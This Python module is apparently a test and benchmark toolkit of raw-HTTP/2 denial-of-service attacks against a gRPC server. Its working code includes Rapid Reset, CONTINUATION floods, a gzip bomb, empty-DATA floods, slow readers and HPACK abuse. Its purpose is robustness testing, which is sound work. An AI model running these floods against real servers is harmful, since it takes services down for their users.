"""A raw-HTTP/2 attacker's toolkit against a gRPC server (tests/e2e/test_http2_attacks.py,
bench.lighthouse_scale --attack), over tools.h2_peer.

Each attack runs within a `Budget` (bytes, seconds) and returns an `Attack` holding its
connections open until `close()`: memory a server holds only while the peer stays
connected is the point, so the caller measures before it closes.

Everything here is written from RFC 9113 (HTTP/2) and RFC 7541 (HPACK), not from the
server under test, so that its bugs are not copied into its attacker.
"""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from tools.h2_peer import (
    BOMB_BYTES,
    BYSTANDER_HOST,
    CANCEL,
    CONTINUATION,
    DATA,
    DEFAULT_FRAME,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW,
    MB,
    PADDED,
    PING,
    PRIORITY,
    PRIORITY_FLAG,
    RST_STREAM,
    SERVICE,
    SETTINGS,
    SMALL_RCVBUF,
    U32,
    WINDOW_UPDATE,
    Attack,
    Budget,
    Peer,
    flood,
    frame,
    grpc_message,
    gzip_bomb,
    heartbeat_message,
    literal,
    literals,
    method,
    one_more,
    raise_nofile,
    request_headers,
)

# ---- attacks ------------------------------------------------------------------------------


def continuation_flood(addr: str, budget: Budget) -> Attack:
    """(a) A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION
    frames of valid literal fields for as long as the budget lasts. A server that buffers a
    block until its end holds all of it."""
    peer = Peer(addr, budget)
    block = literals(request_headers(peer.authority, method("Quorum")))
    filler = literal("x-filler", "a" * (DEFAULT_FRAME - 16))
    peer.send(frame(HEADERS, 0, 1, block))
    batch = frame(CONTINUATION, 0, 1, filler) * 64
    frames = 0
    while not budget.spent() and peer.send(batch):
        frames += 64
    mb = frames * len(filler) / MB
    return Attack(budget, [peer], f"{frames} CONTINUATION frames ({mb:.0f} MB); {peer.state()}")


def unfinished_messages(addr: str, budget: Budget, streams: int = 100) -> Attack:
    """(b) `streams` Quorum calls, each declaring a 4 MB message (grpcio's default limit)
    and sending as much of it as flow control allows, never the last byte."""
    peer = Peer(addr, budget)
    declared = 4 * MB
    ids = [peer.open(request_headers(peer.authority, method("Quorum"))) for _ in range(streams)]
    left = {}
    for stream_id in ids:
        peer.send_data(stream_id, grpc_message(b"", declared=declared))
        left[stream_id] = declared - 1
    zeros = bytes(min(peer.max_frame, MB))
    while not budget.spent() and not peer.closed:
        moved = 0
        for stream_id in ids:
            if left[stream_id]:
                n = peer.send_data(stream_id, zeros[: left[stream_id]], wait=False)
                left[stream_id] -= n
                moved += n
        if not peer.pump(0.0 if moved else 0.05):
            break
    sent = sum(declared - 1 - n for n in left.values()) / MB
    notes = f"{streams} streams, {sent:.0f} MB of their 4 MB messages sent; {peer.state()}"
    return Attack(budget, [peer], notes)


def ping_flood(addr: str, budget: Budget) -> Attack:
    """(c) PINGs as fast as the server takes them; its ACKs are never read."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    return flood(peer, budget, frame(PING, 0, 0, bytes(8)), "PING")


def settings_flood(addr: str, budget: Budget) -> Attack:
    """(d) Empty SETTINGS frames, each owed an ACK of its own size, ACKs never read."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    return flood(peer, budget, frame(SETTINGS, 0, 0), "SETTINGS")


def rapid_reset(addr: str, budget: Budget, streams: int = 500_000) -> Attack:
    """(e) HEADERS of a Quorum call then RST_STREAM at once, stream after stream
    (CVE-2023-44487): no stream stays open, yet each may start work or leave state."""
    peer = Peer(addr, budget)
    headers = request_headers(peer.authority, method("Quorum"))
    blocks = [peer.encoder.encode(headers), peer.encoder.encode(headers)]  # then all indexed
    cancel = U32.pack(CANCEL)
    stream_id, opened = 1, 0
    while opened < streams and not budget.spent():
        batch: list[bytes] = []
        for _ in range(min(2048, streams - opened)):
            block = blocks[min(stream_id // 2, 1)]
            batch += (
                frame(HEADERS, END_HEADERS, stream_id, block),
                frame(RST_STREAM, 0, stream_id, cancel),
            )
            stream_id += 2
        if not peer.send(b"".join(batch)):
            break
        opened = stream_id // 2
    return Attack(budget, [peer], f"{opened} streams opened and reset; {peer.state()}")


def idle_connections(addr: str, budget: Budget, count: int = 2000) -> Attack:
    """(f) `count` connections that send the client preface (magic and SETTINGS) and
    nothing more, all held open."""
    raise_nofile(count + 256)
    attack = Attack(budget)
    why = ""
    while len(attack.peers) < count and not budget.spent():
        try:
            attack.peers.append(Peer(addr, budget, handshake=False))
        except OSError as e:
            why = f"; then connect failed: {e}"
            break
    attack.notes = f"{len(attack.peers)} idle connections{why}"
    return attack


def path_echo(addr: str, budget: Budget, path_bytes: int = 8000) -> Attack:
    """(g) Calls to an unknown method whose :path is `path_bytes` long, answers never read:
    a server that echoes the path in its error (percent-encoded, so '%' triples it) writes
    more than it reads."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    path = SERVICE + "%" * (path_bytes - len(SERVICE))
    block = literals(request_headers(peer.authority, path))
    stream_id = 1
    while not budget.spent():
        batch = []
        for _ in range(32):
            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block))
            stream_id += 2
        if not peer.send(b"".join(batch)):
            break
    calls = stream_id // 2
    return Attack(
        budget, [peer], f"up to {calls} calls of an {path_bytes}-byte path; {peer.state()}"
    )


def huge_header(addr: str, budget: Budget, size: int = 16 * MB) -> Attack:
    """(h) A Heartbeat call with one literal header value of `size` bytes, spread over
    CONTINUATION frames (grpcio refuses a header list over 16 KB)."""
    peer = Peer(addr, budget)
    block = literals(request_headers(peer.authority, method("Heartbeat")))
    block += literal("x-huge", b"a" * size)
    frames = [
        frame(
            CONTINUATION if pos else HEADERS,
            END_HEADERS if pos + DEFAULT_FRAME >= len(block) else 0,
            1,
            block[pos : pos + DEFAULT_FRAME],
        )
        for pos in range(0, len(block), DEFAULT_FRAME)
    ]
    for pos in range(0, len(frames), 64):
        if not peer.send(b"".join(frames[pos : pos + 64])):
            break
    return Attack(budget, [peer], f"a {size // MB} MB header value; {peer.state()}")


def gzip_bomb_call(addr: str, budget: Budget) -> Attack:
    """(i) A Heartbeat call with grpc-encoding: gzip whose message, about 1 MB on the wire
    (under the 4 MB limit), inflates to 1 GB of zeros."""
    bomb = gzip_bomb()
    peer = Peer(addr, budget)
    headers = request_headers(peer.authority, method("Heartbeat"), ("grpc-encoding", "gzip"))
    stream_id = peer.open(headers)
    peer.send_data(stream_id, grpc_message(bomb, compressed=True), end_stream=True)
    peer.wait_ended(stream_id)
    answer = dict(peer.answers.get(stream_id, []))
    status = answer.get("grpc-status", "none yet")
    notes = (
        f"{len(bomb) / MB:.1f} MB of gzip inflating to {BOMB_BYTES // MB} MB; "
        f"grpc-status {status} {answer.get('grpc-message', '')[:80]!r}; {peer.state()}"
    )
    return Attack(budget, [peer], notes)


def flow_control_abuse(addr: str, budget: Budget) -> Attack:
    """(j) Flow-control violations, each on its own connection, each a connection error
    (RFC 9113 6.9, 6.9.1): WINDOW_UPDATE of 0 on the connection; one that takes the
    server's window past 2^31-1; DATA beyond the window the server granted. The last is a
    violation only if the server never granted that much, as one that refreshes its window
    as data arrives does: then it is not one."""
    attack = Attack(budget)
    for what, update in (
        ("a WINDOW_UPDATE of 0 on the connection", 0),
        ("a WINDOW_UPDATE taking the window past 2^31-1", MAX_WINDOW),
    ):
        peer = Peer(addr, budget)
        attack.peers.append(peer)
        peer.send(frame(WINDOW_UPDATE, 0, 0, U32.pack(update)))
        outcome = peer.probe(timeout=max(1.0, budget.left_s() / 3))
        attack.notes += f"{what}: {outcome}; "
        if outcome in ("ack", "timeout"):
            attack.failures.append(f"{what} was taken ({outcome}), not a connection error")
    peer = Peer(addr, budget)
    attack.peers.append(peer)
    stream_id = peer.open(request_headers(peer.authority, method("Quorum")))
    allowed = min(peer.send_window, peer.stream_window(stream_id))
    total = allowed + MB
    data = grpc_message(b"", declared=4 * MB) + bytes(total - 5)
    step = peer.max_frame
    peer.send(
        b"".join(frame(DATA, 0, stream_id, data[p : p + step]) for p in range(0, total, step))
    )
    peer.send_window -= total
    outcome = peer.probe(timeout=max(1.0, budget.left_s()))
    attack.notes += (
        f"DATA {total - allowed} bytes beyond the {allowed} granted: {outcome}, "
        f"window after the server's updates {peer.send_window}"
    )
    if outcome in ("ack", "timeout") and peer.send_window < 0:
        attack.failures.append(
            f"DATA {-peer.send_window} bytes beyond the window the server granted was taken"
        )
    return attack


def unread_answers(addr: str, budget: Budget) -> Attack:
    """(k) Unary Heartbeat calls on one connection whose SETTINGS_INITIAL_WINDOW_SIZE is 0,
    answers never read: every answer's message waits on flow control at the server. Sent
    within the connection window the server granted at the start (no later WINDOW_UPDATE is
    read), so this peer breaks no rule."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF, settings=((INITIAL_WINDOW_SIZE, 0),))
    headers = request_headers(peer.authority, method("Heartbeat"))
    blocks = [peer.encoder.encode(headers), peer.encoder.encode(headers)]
    body = heartbeat_message("attacker-unread")
    calls = 0
    while not budget.spent():
        batch: list[bytes] = []
        while len(batch) < 512 and peer.send_window >= len(body):
            stream_id = peer.next_stream
            peer.next_stream += 2
            peer.send_window -= len(body)
            batch += (
                frame(HEADERS, END_HEADERS, stream_id, blocks[min(calls + len(batch), 1)]),
                frame(DATA, END_STREAM, stream_id, body),
            )
        if not batch or not peer.send(b"".join(batch)):
            break
        calls += len(batch) // 2
    why = "the connection window spent" if peer.send_window < len(body) else "the budget spent"
    return Attack(budget, [peer], f"{calls} calls, {why}; {peer.state()}")


def _malformed(authority: str) -> dict[str, bytes]:
    """Frames that break RFC 9113 in ways a parser trips on (an index out of range): each
    is sent on a connection of its own."""
    ok = literals(request_headers(authority, method("Heartbeat")))
    return {
        "PADDED HEADERS, empty payload": frame(HEADERS, PADDED | END_HEADERS, 1, b""),
        "empty header name": frame(HEADERS, END_HEADERS | END_STREAM, 1, ok + literal("", "x")),
        "HEADERS padding longer than the frame": frame(
            HEADERS, PADDED | END_HEADERS | END_STREAM, 1, bytes([255]) + ok[:32]
        ),
        "DATA padding longer than the frame": frame(HEADERS, END_HEADERS, 1, ok)
        + frame(DATA, PADDED, 1, bytes([200]) + bytes(10)),
        "HEADERS with PRIORITY, 2 bytes": frame(HEADERS, PRIORITY_FLAG | END_HEADERS, 1, bytes(2)),
        "PRIORITY of 3 bytes": frame(PRIORITY, 0, 1, bytes(3)),
        "SETTINGS on stream 1": frame(SETTINGS, 0, 1, b""),
        "PING on stream 1": frame(PING, 0, 1, bytes(8)),
        "PING of 7 bytes": frame(PING, 0, 0, bytes(7)),
    }


def malformed_frames(addr: str, budget: Budget, rounds: int = 200) -> Attack:
    """(l) Each malformed frame on a connection of its own, then a PING to learn that the
    server has handled it; `rounds` times over. The caller checks the server's log: no
    traceback, and no line per connection."""
    outcomes: dict[str, Counter[str]] = {}
    frames = _malformed("lighthouse")
    done = 0
    while done < rounds and not budget.spent():
        for name, bad in frames.items():
            peer = Peer(addr, budget, handshake=False)
            try:
                peer.send(bad)
                outcomes.setdefault(name, Counter())[peer.probe(timeout=1.0)] += 1
            finally:
                peer.close()
        done += 1
    seen = "; ".join(f"{name}: {dict(count)}" for name, count in outcomes.items())
    return Attack(budget, [], f"{done} rounds: {seen}")


def work_budget(addr: str, budget: Budget, per_read: int = 256 * 1024) -> Attack:
    """(m) Batches of one server read's worth of tiny HEADERS frames (about 15 bytes each),
    each a whole call to an unknown method or to Heartbeat: how long does a server's event
    loop go without serving anyone else? Answers are read (and dropped): this is about
    time, not memory."""
    peer = Peer(addr, budget)
    lists = [
        request_headers(peer.authority, method("NoSuchMethod")),
        request_headers(peer.authority, method("Heartbeat")),
    ]
    first = [peer.encoder.encode(headers) for headers in lists]
    again = [peer.encoder.encode(headers) for headers in lists]  # all indexed from now on
    stream_id = 1
    while not budget.spent():
        batch, size = [], 0
        while size < per_read:
            blocks = first if stream_id < 4 else again
            one = frame(HEADERS, END_HEADERS | END_STREAM, stream_id, blocks[stream_id // 2 % 2])
            batch.append(one)
            size += len(one)
            stream_id += 2
        if not peer.send(b"".join(batch)):
            break
        peer.drain()
    return Attack(budget, [peer], f"up to {stream_id // 2} calls in {per_read // 1024} KB batches")


def stream_flood(addr: str, budget: Budget) -> Attack:
    """(n) One HeartbeatStream call whose client sends heartbeats as fast as flow control
    lets it and never reads an answer (its stream window for them is 0)."""
    peer = Peer(addr, budget, settings=((INITIAL_WINDOW_SIZE, 0),))
    stream_id = peer.open(request_headers(peer.authority, method("HeartbeatStream")))
    message = heartbeat_message("attacker-stream")
    chunk = message * max(1, min(peer.max_frame, MB) // len(message))
    messages = 0
    while not budget.spent():
        sent = peer.send_data(stream_id, chunk)
        messages += sent // len(message)
        if sent < len(chunk):
            break
    return Attack(budget, [peer], f"{messages} heartbeats on one stream; {peer.state()}")


def priority_flood(addr: str, budget: Budget) -> Attack:
    """(o) PRIORITY frames, which ask for no work (RFC 9113 deprecates them), as fast as
    the server takes them."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    return flood(peer, budget, frame(PRIORITY, 0, 1, bytes(5)), "PRIORITY")


def window_update_flood(addr: str, budget: Budget) -> Attack:
    """(p) Connection WINDOW_UPDATEs of +1 while the server has nothing to send."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    return flood(peer, budget, frame(WINDOW_UPDATE, 0, 0, U32.pack(1)), "WINDOW_UPDATE +1")


def empty_data_flood(addr: str, budget: Budget) -> Attack:
    """(q) Empty DATA frames without END_STREAM on an open call (CVE-2019-9518)."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    stream_id = peer.open(request_headers(peer.authority, method("Quorum")))
    return flood(peer, budget, frame(DATA, 0, stream_id, b""), "empty DATA")


def answered_headers_flood(addr: str, budget: Budget) -> Attack:
    """(r) A call to an unknown method, answered; then its header block again and again on
    that answered stream (HEADERS with END_STREAM, as trailers): each is decoded, then
    dropped."""
    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
    block = literals(request_headers(peer.authority, method("NoSuchMethod")))
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    peer.wait_ended(1)
    return flood(peer, budget, frame(HEADERS, END_HEADERS | END_STREAM, 1, block), "HEADERS")


def table_size_updates(addr: str, budget: Budget, connections: int = 32) -> Attack:
    """(s) `connections` connections, each sending new streams whose header blocks are
    16 KB of HPACK dynamic-table size updates and nothing else: each costs a decoder about
    10 ms, and decodes to no header at all (RFC 7541 4.2 needs at most two updates)."""
    attack = Attack(budget)
    block = b"\x20" * 16_000
    blocks = 0
    for _ in range(connections):
        if budget.spent():
            break
        attack.peers.append(Peer(addr, budget, rcvbuf=SMALL_RCVBUF))
    while not budget.spent() and any(not p.closed for p in attack.peers):
        for peer in attack.peers:
            stream_id = peer.next_stream
            peer.next_stream += 2
            if peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block)):
                blocks += 1
            peer.pump()
    ends = Counter(peer.state() for peer in attack.peers)
    return Attack(
        budget, attack.peers, f"{blocks} blocks on {len(attack.peers)} connections: {dict(ends)}"
    )


def budget_fill(addr: str, budget: Budget, connections: int = 1000) -> Attack:
    """(t) One host fills the server's process-wide pools: two calls that each declare a
    4 MB message and never finish it (message grants), then `connections` connections that
    each hold a partial 16 KB frame (request bytes held). Then a call from another host
    (`BYSTANDER_HOST`) that declares a 1 MB message and sends it: a server that shares its
    pools fairly between hosts takes it; one with only totals resets it."""
    raise_nofile(connections + 256)
    attack = Attack(budget)
    for _ in range(2):
        peer = Peer(addr, budget)
        attack.peers.append(peer)
        stream_id = peer.open(request_headers(peer.authority, method("Quorum")))
        peer.send_data(stream_id, grpc_message(b"", declared=4 * MB) + bytes(60_000), wait=False)
    partial = frame(DATA, 0, 1, bytes(DEFAULT_FRAME))[:-384]
    opened = 0
    while opened < connections and (peer := one_more(addr, attack)) is not None:
        peer.send(
            frame(
                HEADERS, END_HEADERS, 1, literals(request_headers(peer.authority, method("Quorum")))
            )
            + partial
        )
        opened += 1
    probe = Peer(addr, Budget(4 * MB, 10.0), source=BYSTANDER_HOST)
    attack.peers.append(probe)
    stream_id = probe.open(request_headers(probe.authority, method("Heartbeat")))
    padded = grpc_message(b"", declared=MB) + bytes(MB)  # larger than a stream window
    sent = probe.send_data(stream_id, padded[:200_000])
    probe.probe(timeout=5.0)  # its PING's ACK comes after whatever the call got
    reset = probe.resets.get(stream_id)
    status = dict(probe.answers.get(stream_id, [])).get("grpc-status")
    attack.notes += (
        f"2 grants of 4 MB asked, {opened} partial frames held; a call of another host "
        f"sent {sent} bytes of a 1 MB message: {'reset ' + str(reset) if reset else 'taken'}; "
        f"{probe.state()}"
    )
    if reset is not None or probe.goaway is not None or status == "8":
        attack.failures.append(
            f"another host's call was refused: {probe.state()}, reset {reset}, status {status}"
        )
    return attack


def slow_readers(addr: str, budget: Budget, connections: int = 20, calls: int = 50) -> Attack:
    """(u) `connections` connections that each make `calls` Heartbeat calls with a stream
    window of 0, then grant their answers 1 byte a stream every 100 ms: answers wait on the
    server, moving so slowly that a stall timer that only looks for progress never fires."""
    attack = Attack(budget)
    body = heartbeat_message("attacker-slow")
    for _ in range(connections):
        if budget.spent():
            break
        peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF, settings=((INITIAL_WINDOW_SIZE, 0),))
        attack.peers.append(peer)
        block = literals(request_headers(peer.authority, method("Heartbeat")))
        batch: list[bytes] = []
        for _ in range(calls):
            stream_id = peer.next_stream
            peer.next_stream += 2
            batch += (
                frame(HEADERS, END_HEADERS, stream_id, block),
                frame(DATA, END_STREAM, stream_id, body),
            )
        peer.send(b"".join(batch))
    drips = 0
    while not budget.spent():
        for peer in attack.peers:
            peer.send(
                b"".join(
                    frame(WINDOW_UPDATE, 0, sid, U32.pack(1)) for sid in range(1, 2 * calls, 2)
                ),
                budgeted=False,
            )
            peer.pump()
            drips += 1
        time.sleep(0.1)
    ended = sum(len(peer.ended) for peer in attack.peers)
    return Attack(budget, attack.peers, f"{drips} drips; {ended} answers ended")


def cache_fill(addr: str, budget: Budget, connections: int = 2000, blocks: int = 16) -> Attack:
    """(v) `connections` connections that each fill a server's cache of decoded header
    blocks: one block puts a 4 KB value in the HPACK table, then `blocks` distinct small
    blocks each refer to it three times (12 KB decoded from ~80 bytes), calls to an
    unknown method, answered and left idle. A cache counted only by entries holds
    ~200 KB per connection: 400 MB over 2,000 connections."""
    raise_nofile(connections + 256)
    attack = Attack(budget)
    big = literal("x-a", "v" * 4000)
    big = b"\x40" + big[1:]  # the same field, with incremental indexing: into the table
    for _ in range(connections):
        if (peer := one_more(addr, attack)) is None:
            break
        base = literals(request_headers(peer.authority, method("NoSuchMethod")))
        batch = [frame(HEADERS, END_HEADERS | END_STREAM, 1, base + big)]
        for n in range(blocks):
            block = base + literal("x-n", str(n)) + b"\xbe" * 3  # index 62: the 4 KB value
            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, 3 + 2 * n, block))
        peer.send(b"".join(batch))
        peer.drain()
    attack.notes += f"{len(attack.peers)} connections, {blocks} cacheable blocks each"
    return attack


@dataclass(frozen=True)
class Spec:
    run: Callable[[str, Budget], Attack]
    max_bytes: int
    prepare: Callable[[], object] | None = None
    """Work done before the budget starts (building a payload)."""


ATTACKS: dict[str, Spec] = {
    "continuation_flood": Spec(continuation_flood, 100 * MB),
    "unfinished_messages": Spec(unfinished_messages, 192 * MB),
    "ping_flood": Spec(ping_flood, 64 * MB),
    "settings_flood": Spec(settings_flood, 64 * MB),
    "rapid_reset": Spec(rapid_reset, 32 * MB),
    "idle_connections": Spec(idle_connections, 4 * MB),
    "path_echo": Spec(path_echo, 32 * MB),
    "huge_header": Spec(huge_header, 17 * MB),
    "gzip_bomb": Spec(gzip_bomb_call, 2 * MB, prepare=gzip_bomb),
    "flow_control_abuse": Spec(flow_control_abuse, 8 * MB),
    "unread_answers": Spec(unread_answers, 32 * MB),
    "malformed_frames": Spec(malformed_frames, 8 * MB),
    "work_budget": Spec(work_budget, 64 * MB),
    "stream_flood": Spec(stream_flood, 256 * MB),
    "priority_flood": Spec(priority_flood, 64 * MB),
    "window_update_flood": Spec(window_update_flood, 64 * MB),
    "empty_data_flood": Spec(empty_data_flood, 64 * MB),
    "answered_headers_flood": Spec(answered_headers_flood, 64 * MB),
    "table_size_updates": Spec(table_size_updates, 64 * MB),
    "budget_fill": Spec(budget_fill, 64 * MB),
    "slow_readers": Spec(slow_readers, 8 * MB),
    "cache_fill": Spec(cache_fill, 64 * MB),
}
